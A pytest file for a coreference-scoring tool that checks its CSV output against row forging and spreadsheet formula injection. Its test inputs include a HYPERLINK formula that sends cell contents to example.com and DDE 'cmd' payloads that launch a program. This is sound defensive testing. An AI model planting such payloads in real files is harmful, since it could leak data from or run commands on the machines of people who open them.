"""Every CSV anascore writes (``score``, ``score --group-by``, ``errors``, ``evaluate``,
``lab``, the dominant-mention class table) goes through :mod:`anascore.formats.io.csv_output`:

* read back with :mod:`csv`, every cell is what was written: a document named
  ``x",1.0,1.0,1.0,1.0,1.0,1.0,"y`` cannot forge its row's numbers;
* a text cell that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab,
  carriage return first: OWASP's list) is neutralised by a leading ``'``; numbers, negative
  ones included, are written as they are.
"""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import numpy as np
import pytest

from anascore.cli.main import main
from anascore.formats.io.csv_output import FORMULA_STARTS, csv_rows, spreadsheet_safe

FORGING = 'x",1.0,1.0,1.0,1.0,1.0,1.0,"y'
FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def write_jsonlines(path: Path, documents: list[tuple[str, list[str], list]]) -> Path:
    with path.open("w", encoding="utf-8") as stream:
        for name, words, clusters in documents:
            stream.write(json.dumps({"doc_key": name, "sentences": [words],
                                     "clusters": clusters}) + "\n")
    return path


def test_the_neutraliser_touches_text_that_starts_a_formula_and_nothing_else() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    for text in FORMULAS:
        assert spreadsheet_safe(text) == "'" + text
    for value in ("plain", "a=b", "", "'=already", " =x", "(x)", "n/a"):
        assert spreadsheet_safe(value) == value
    # Numbers stay numbers: as numbers, and as the text of a plain number the code formats.
    for number in (-0.5, 0.25, -3, 0, 1e-07, math.nan):
        assert spreadsheet_safe(number) is number
    for text in ("-0.5", "+1.20", "-3", "-1e-07", "-.5", "1.5E+3"):
        assert spreadsheet_safe(text) == text
    for text in ("-", "--5", "-0.5x", "-1,5", "-inf", "-nan", "+"):
        assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe(None) is None


def test_csv_rows_quote_what_needs_quoting() -> None:
    text = csv_rows([["name", "value"], [FORGING, 0.5], ["a\nb", -0.25], [FORMULAS[0], None]])
    assert read_back(text) == [["name", "value"], [FORGING, "0.5"], ["a\nb", "-0.25"],
                               ["'" + FORMULAS[0], ""]]


def test_group_by_csv_cannot_forge_a_row(tmp_path, capsys) -> None:
    # Document FORGING: the response finds both mentions but not their link (MUC recall 0);
    # "plain" is found whole. Written by hand, the name's quote ended the cell and the rest
    # of the name became six scores of 1.0.
    words = ["Anna", "saw", "her"]
    key = write_jsonlines(tmp_path / "key.jsonl", [(FORGING, words, [[[0, 0], [2, 2]]]),
                                                   ("plain", words, [[[0, 0], [2, 2]]])])
    response = write_jsonlines(tmp_path / "response.jsonl",
                               [(FORGING, words, [[[0, 0]], [[2, 2]]]),
                                ("plain", words, [[[0, 0], [2, 2]]])])
    assert main(["score", str(key), str(response), "--group-by", "document", "--metrics",
                 "mentions,muc", "--output", "csv"]) == 0
    rows = read_back(capsys.readouterr().out)
    header = rows[0]
    assert all(len(row) == len(header) for row in rows)
    found = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert list(found) == [FORGING, "plain", "micro", "macro"]
    assert found[FORGING]["muc_recall"] == "0.000000"
    assert found[FORGING]["mentions_recall"] == "1.000000"
    assert found["plain"]["muc_recall"] == "1.000000"


def test_score_csv_neutralises_names_and_keeps_negative_numbers(tmp_path, capsys) -> None:
    words = ["Anna", "saw", "her", "and", "she", "left"]
    names = FORMULAS[:4]
    key = write_jsonlines(tmp_path / "key.jsonl",
                          [(name, words, [[[0, 0], [2, 2], [4, 4]]]) for name in names])
    good = write_jsonlines(tmp_path / "good.jsonl",
                           [(name, words, [[[0, 0], [2, 2], [4, 4]]]) for name in names])
    worse = write_jsonlines(tmp_path / "worse.jsonl",
                            [(name, words, [[[0, 0], [2, 2]], [[4, 4]]]) for name in names])
    assert main(["score", str(key), str(good), str(worse), "--metrics", "muc",
                 "--names", "=good,-worse", "--per-document", "--paired-ar", "100",
                 "--output", "csv", "--quiet"]) == 0
    table = read_back(capsys.readouterr().out)
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    documents = {row["document"] for row in rows if row["section"] == "document"}
    assert documents == {"'" + name for name in names}
    assert {row["system"] for row in rows if row["section"] == "corpus"} == {"'=good",
                                                                            "'-worse"}
    test = next(row for row in rows if row["section"] == "paired-ar")
    # worse against good: MUC F1 of 1/2 recall and 1/1 precision is 2/3, a delta of -1/3
    # written as the number it is.
    assert float(test["delta"]) == pytest.approx(-1 / 3)
    assert test["delta"].startswith("-0.333")


def test_errors_csv_neutralises_documents_and_mention_texts(tmp_path, capsys) -> None:
    words = ["=1+1", "saw", "@her", "and", "-she", "left"]
    key = write_jsonlines(tmp_path / "key.jsonl",
                          [("=doc", words, [[[0, 0], [2, 2], [4, 4]]])])
    response = write_jsonlines(tmp_path / "response.jsonl",
                               [("=doc", words, [[[0, 0], [2, 2]], [[4, 4]]])])
    assert main(["errors", str(key), str(response), "--per-document", "--list",
                 "--output", "csv"]) == 0
    rows = read_back(capsys.readouterr().out)
    cells = [cell for row in rows for cell in row]
    assert "'=doc" in cells and "=doc" not in cells
    listed = next(row for row in rows if row[1] == "error")  # one long table (issue 23)
    assert listed[2] == "'=doc"
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell


def test_leaderboard_csv_neutralises_system_and_dataset_names(tmp_path) -> None:
    from anascore.leaderboard import evaluate
    from anascore.leaderboard.render import render_leaderboard

    lines = ["#begin document (d); part 000", "d 0 0 Anna (1)", "d 0 1 saw -",
             "d 0 2 her (1)", "#end document", ""]
    (tmp_path / "-set.key").write_text("\n".join(lines))
    (tmp_path / "a.-set").write_text("\n".join(lines))
    (tmp_path / "task.toml").write_text(
        'resamples = 0\n[[datasets]]\nname = "-set"\nkey = "-set.key"\n'
        '[[systems]]\nname = "=cmd"\nresponses = "a.{dataset}"\n')
    rows = read_back(render_leaderboard(evaluate(tmp_path / "task.toml"), "csv"))
    assert rows[0][-1] == "'-set"
    assert rows[1][1] == "'=cmd"
    assert float(rows[1][2]) == 1.0


def test_dominant_class_table_neutralises_class_names() -> None:
    from anascore.metrics.dominant import class_table_csv, dominant_score

    counts = np.array([1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0], dtype=float)
    score = dominant_score(counts, ("=x", "pr"), (1.0, 0.5, 0.5, 0.0), None, None)
    rows = read_back(class_table_csv(score))
    assert rows[1][0] == "'=x" and rows[1][-3:] == ["1.0", "0.5", "0.6666666666666666"]
    assert rows[2][0] == "pr"


def test_lab_csv_neutralises_labels() -> None:
    from anascore.lab import sensitivity as lab

    experiment = lab.Experiment(0, "=x", "x", (lab.Point("-label", -0.5, {"muc": _score(0.5)}),))
    rows = read_back(lab.render_lab([experiment], "csv"))
    assert rows[1] == ["0", "'-label", "-0.5", "muc", "0.5", "0.5", "0.5"]


def _score(value: float):
    from anascore.metrics.scores import Score
    return Score.from_counts(value, 1, value, 1)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
